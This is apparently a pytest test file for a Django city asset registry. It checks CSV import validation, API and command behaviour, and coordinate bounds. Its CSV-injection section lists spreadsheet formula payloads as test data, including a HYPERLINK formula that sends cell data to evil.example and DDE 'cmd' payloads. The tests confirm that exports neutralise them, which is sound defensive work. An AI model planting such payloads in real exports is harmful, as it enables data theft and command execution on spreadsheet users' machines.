"""The CSV import: every bad row reported with its line and reason, nothing written unless all
rows are valid (or valid rows only are asked for), audited; the API endpoint and the command."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command

from cityplatform.csvsafe import PLAIN_NUMBER
from cityplatform.models import AuditEntry
from cityplatform.roles import Role
from devices.models import Asset, CameraLight, StreetlightDetails
from devices.services.asset_import import ImportFileError, assets_import
from tests.devices.registry_factories import make_light, make_zone, metres_north

pytestmark = pytest.mark.django_db

HEADER = (
    "device_id,kind,name,latitude,longitude,zone,status,attributes,rated_power_w,controller,"
    "protocol,endpoint_url,analytics_allowlist,measures"
)
GOOD = [
    "CTL-1,controller,Cabinet 1,51.5150,-0.0920,,,,,,opcua,opc.tcp://127.0.0.1:4841/city/,,",
    (
        "SL-1,streetlight,Lamp 1,51.5151,-0.0920,Cheap,active,"
        '"{""column"": ""C12""}",60,CTL-1,opcua,,,'
    ),
    "SL-2,streetlight,Lamp 2,51.5152,-0.0920,,,,45,,,,,",
    "CAM-1,camera,Junction,51.5150,-0.0921,,,,,,,,motion;crowd,",
    "LUX-1,sensor,Lux,51.5150,-0.0922,,,,,,,,,lux",
]
# line number in the file (header is line 1) → the field the reason names
BAD = [
    ("SL-3,lamp,Bad kind,51.5,-0.09,,,,,,,,,", "kind"),
    ("SL-4,streetlight,No number,north,-0.09,,,,,,,,,", "latitude"),
    ("SL-5,streetlight,Off the globe,51.5,-181,,,,,,,,,", "longitude"),
    ("SL-6,streetlight,Nowhere,51.5,-0.09,Atlantis,,,,,,,,", "zone"),
    ("SL-1,streetlight,Twice in the file,51.5,-0.09,,,,,,,,,", "device_id"),
    ("SL-EXISTS,streetlight,Registered,51.5,-0.09,,,,,,,,,", "device_id"),
    ("bad id,streetlight,Bad id,51.5,-0.09,,,,,,,,,", "device_id"),
    ("SL-7,streetlight,Attrs,51.5,-0.09,,,[1],,,,,,", "attributes"),
    ("SL-8,streetlight,Status,51.5,-0.09,,lost,,,,,,,", "status"),
    ("SL-9,streetlight,Power,51.5,-0.09,,,,lots,,,,,", "rated_power_w"),
    ("SL-10,streetlight,Ghost controller,51.5,-0.09,,,,,CTL-404,,,,", "controller"),
    ("LUX-2,sensor,Measures nothing,51.5,-0.09,,,,,,,,,", "measures"),
    ("CTL-2,controller,No URL,51.5,-0.09,,,,,,opcua,,,", "endpoint_url"),
    ("SL-11,streetlight,Outside its zone,51.6,-0.09,Cheap,,,,,,,,", "zone"),
]


@pytest.fixture
def registry():
    make_zone("Cheap", -0.0920, 51.5150, 0.005, kind="ward")
    make_light("SL-EXISTS", 51.50, -0.10)


def csv_of(rows):
    return "\n".join([HEADER, *rows]) + "\n"


def test_a_valid_file_is_imported_with_zones_details_and_links(registry):
    report = assets_import(data=csv_of(GOOD), actor="anna", filename="good.csv")
    assert report.errors == [] and report.created == 5 and report.written
    lamp = Asset.objects.select_related("streetlight__controller", "zone").get(device_id="SL-1")
    assert lamp.zone.name == "Cheap"
    assert lamp.attributes == {"column": "C12"}
    assert lamp.streetlight.controller.device_id == "CTL-1"
    assert lamp.streetlight.protocol == "opcua" and lamp.streetlight.rated_power_w == 60
    assert Asset.objects.get(device_id="CAM-1").camera.analytics_allowlist == ["motion", "crowd"]
    assert CameraLight.objects.filter(camera__device_id="CAM-1").count() == 2
    entry = AuditEntry.objects.get(action="assets.imported")
    assert entry.details["created"] == 5 and entry.details["file"] == "good.csv"


def test_a_file_with_bad_rows_reports_exactly_those_rows_and_writes_nothing(registry):
    rows = GOOD + [row for row, _ in BAD]
    before = Asset.objects.count()
    report = assets_import(data=csv_of(rows), actor="anna")
    reported = [(e.line, next(iter(e.errors))) for e in report.errors]
    expected = [(len(GOOD) + 2 + i, field) for i, (_, field) in enumerate(BAD)]
    assert [line for line, _ in reported] == [line for line, _ in expected]
    for (line, _), (_, field) in zip(reported, BAD, strict=True):
        errors = next(e.errors for e in report.errors if e.line == line)
        assert field in errors, (line, errors)
    assert not report.written and report.valid_rows == len(GOOD) - 0
    assert Asset.objects.count() == before
    assert not AuditEntry.objects.filter(action="assets.imported").exists()


def test_duplicates_and_unknowns_say_why(registry):
    report = assets_import(data=csv_of([*GOOD, BAD[4][0], BAD[0][0], BAD[3][0]]), actor="a")
    reasons = {e.line: e.errors for e in report.errors}
    assert "also on line 3" in reasons[7]["device_id"]
    assert "unknown kind 'lamp'" in reasons[8]["kind"]
    assert "unknown zone 'Atlantis'" in reasons[9]["zone"]


def test_valid_only_imports_the_good_rows_and_lists_the_bad(registry):
    report = assets_import(
        data=csv_of(GOOD + [row for row, _ in BAD]), actor="anna", valid_only=True
    )
    assert report.created == len(GOOD) and len(report.errors) == len(BAD)
    assert set(Asset.objects.values_list("device_id", flat=True)) == {
        "SL-EXISTS",
        "CTL-1",
        "SL-1",
        "SL-2",
        "CAM-1",
        "LUX-1",
    }
    assert AuditEntry.objects.get(action="assets.imported").details["skipped_lines"][0] == 7


def test_a_dry_run_writes_nothing(registry):
    report = assets_import(data=csv_of(GOOD), actor="anna", dry_run=True)
    assert report.valid_rows == 5 and not report.written
    assert Asset.objects.count() == 1


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "empty"),
        (b"device_id,kind\nA,streetlight\n", "missing columns"),
        (b"device_id,kind,latitude,longitude,colour\n", "unknown columns"),
        ("device_id,kind,latitude,longitude\n".encode("utf-16"), "not UTF-8"),
    ],
)
def test_an_unreadable_file_is_refused_as_a_whole(data, reason):
    with pytest.raises(ImportFileError, match=reason):
        assets_import(data=data, actor="anna")


def test_the_api_import_returns_400_with_each_bad_row(make_user, api_client, registry):
    client = api_client(make_user(Role.ASSET_MANAGER))
    upload = SimpleUploadedFile("a.csv", csv_of([*GOOD, BAD[0][0]]).encode(), "text/csv")
    response = client.post("/api/v1/assets/import/", {"file": upload}, format="multipart")
    assert response.status_code == 400
    body = response.json()
    assert body["extra"]["errors"] == [
        {
            "line": 7,
            "device_id": "SL-3",
            "errors": {"kind": body["extra"]["errors"][0]["errors"]["kind"]},
        }
    ]
    assert "nothing was imported" in body["message"]
    assert Asset.objects.count() == 1


def test_the_api_import_with_valid_only_and_dry_run(make_user, api_client, registry):
    client = api_client(make_user(Role.ASSET_MANAGER))

    def post(**flags):
        upload = SimpleUploadedFile("a.csv", csv_of([*GOOD, BAD[0][0]]).encode(), "text/csv")
        return client.post("/api/v1/assets/import/", {"file": upload, **flags}, format="multipart")

    dry = post(dry_run="true", valid_only="true")
    assert dry.status_code == 200 and dry.json()["valid_rows"] == 5
    assert Asset.objects.count() == 1
    done = post(valid_only="true")
    assert done.status_code == 201 and done.json()["created"] == 5
    assert Asset.objects.count() == 6


def test_the_api_import_refuses_a_bad_header_with_400(make_user, api_client):
    client = api_client(make_user(Role.ASSET_MANAGER))
    upload = SimpleUploadedFile("a.csv", b"id,kind\n", "text/csv")
    response = client.post("/api/v1/assets/import/", {"file": upload}, format="multipart")
    assert response.status_code == 400
    assert "missing columns" in response.json()["message"]


def test_the_command_imports_a_file(tmp_path, registry, capsys):
    path = tmp_path / "assets.csv"
    path.write_text(csv_of(GOOD))
    call_command("import_assets", str(path), "--no-progress")
    assert Asset.objects.count() == 6
    assert StreetlightDetails.objects.count() == 3


def test_the_command_fails_on_bad_rows_and_lists_them(tmp_path, registry, capsys):
    path = tmp_path / "assets.csv"
    path.write_text(csv_of([*GOOD, BAD[1][0]]))
    with pytest.raises(CommandError, match="nothing imported"):
        call_command("import_assets", str(path), "--no-progress")
    assert "line 7 (SL-4): latitude" in capsys.readouterr().err
    assert Asset.objects.count() == 1


def test_export_then_import_round_trips(make_user, api_client, registry):
    assets_import(data=csv_of(GOOD), actor="anna")
    client = api_client(make_user(Role.VIEWER))
    exported = b"".join(client.get("/api/v1/assets/export.csv").streaming_content).decode()
    Asset.objects.all().delete()
    report = assets_import(data=exported, actor="anna")
    assert report.errors == [] and report.created == 6
    assert Asset.objects.get(device_id="SL-1").streetlight.controller.device_id == "CTL-1"


# --- CSV injection (issue #14, item 16) and the site's bounds (item 17) -------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''",
]


def _formula_city():
    """Assets whose text fields hold formulas (through the service: the API trims whitespace,
    the admin and an earlier import did not)."""
    zone = make_zone("=Zone(1)", -0.0920, 51.5150, 0.005, kind="ward")
    for i, text in enumerate(FORMULAS):
        make_light(
            f"SL-F{i}",
            51.5150 + i / 10_000,
            -0.0920,
            name=text,
            manufacturer=text,
            serial="'t Hooft",
            attributes={"note": text},
            details={"rated_power_w": 42.5},
        )
    return zone


def _fields(asset):
    return (
        asset.kind,
        asset.name,
        asset.latitude,
        asset.longitude,
        asset.zone_id,
        asset.status,
        asset.manufacturer,
        asset.model,
        asset.serial,
        asset.attributes,
        asset.streetlight.rated_power_w,
    )


def _exports(client):
    api = client.get("/api/v1/assets/export.csv")
    page = client.get("/assets/export.csv")
    assert api.status_code == page.status_code == 200
    return [b"".join(r.streaming_content).decode() for r in (api, page)]


def test_the_exports_neutralise_formulas_and_an_import_gives_the_same_assets(make_user, client):
    """Given assets whose text is a spreadsheet formula, both exports (API and page) write no
    cell a spreadsheet would run, and importing the export gives back identical assets."""
    _formula_city()
    client.force_login(make_user(Role.ASSET_MANAGER))
    before = {a.device_id: _fields(a) for a in Asset.objects.select_related("streetlight")}
    for exported in _exports(client):
        cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
        dangerous = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
        dangerous += [c for c in cells if c[:1] == "-" and not PLAIN_NUMBER.fullmatch(c)]
        assert dangerous == []
        assert "'=HYPERLINK(" in exported and "'\t=1+1" in exported
        assert "-0.092" in exported  # a negative number stays a number
        Asset.objects.all().delete()
        report = assets_import(data=exported, actor="anna")
        assert report.errors == [] and report.created == len(FORMULAS)
        after = {a.device_id: _fields(a) for a in Asset.objects.select_related("streetlight")}
        assert after == before


def test_a_quoted_negative_number_imports_as_the_number(registry):
    """A spreadsheet that saved a longitude as text ('-0.0920) still gives the number."""
    row = "SL-Q,streetlight,Quoted,51.5150,'-0.0920,,,,,,,,,"
    report = assets_import(data=csv_of([row]), actor="anna")
    assert report.errors == []
    assert Asset.objects.get(device_id="SL-Q").longitude == -0.092


def test_a_row_with_latitude_and_longitude_swapped_is_a_row_error_naming_the_bounds(registry):
    """-0.1052,51.514 (swapped) is WGS84-valid but far outside the city's zones."""
    rows = ["SL-S,streetlight,Swapped,-0.1052,51.514,,,,,,,,,", *GOOD]
    report = assets_import(data=csv_of(rows), actor="anna")
    assert [e.line for e in report.errors] == [2] and not report.written
    problem = report.errors[0].errors["coordinates"]
    assert "outside the site's bounds" in problem and "swapped" in problem
    assert "latitude 51.4" in problem  # the bounds themselves are named
    assert not Asset.objects.filter(device_id="SL-S").exists()


def test_a_row_just_outside_the_zones_within_the_margin_is_accepted(registry):
    """The margin (SITE_BOUNDS_MARGIN_M, 5 km) leaves room for assets at the city's edge."""
    lat = metres_north(51.5150 + 0.005, 4000)
    report = assets_import(
        data=csv_of([f"SL-E,streetlight,Edge,{lat},-0.0920,,,,,,,,,"]), actor="anna"
    )
    assert report.errors == [] and report.created == 1


def test_the_api_refuses_an_asset_outside_the_site(make_user, api_client, registry):
    client = api_client(make_user(Role.ASSET_MANAGER))
    body = {"device_id": "SL-X", "kind": "streetlight", "latitude": -0.1052, "longitude": 51.514}
    response = client.post("/api/v1/assets/", body, format="json")
    assert response.status_code == 400, response.content
    assert "outside the site's bounds" in response.json()["extra"]["fields"]["latitude"][0]
    assert not Asset.objects.filter(device_id="SL-X").exists()
    # moving a registered asset out of the site is refused the same way
    response = client.patch(
        "/api/v1/assets/SL-EXISTS/", {"latitude": 0.0, "longitude": 0.0}, format="json"
    )
    assert response.status_code == 400
    assert Asset.objects.get(device_id="SL-EXISTS").latitude == 51.50
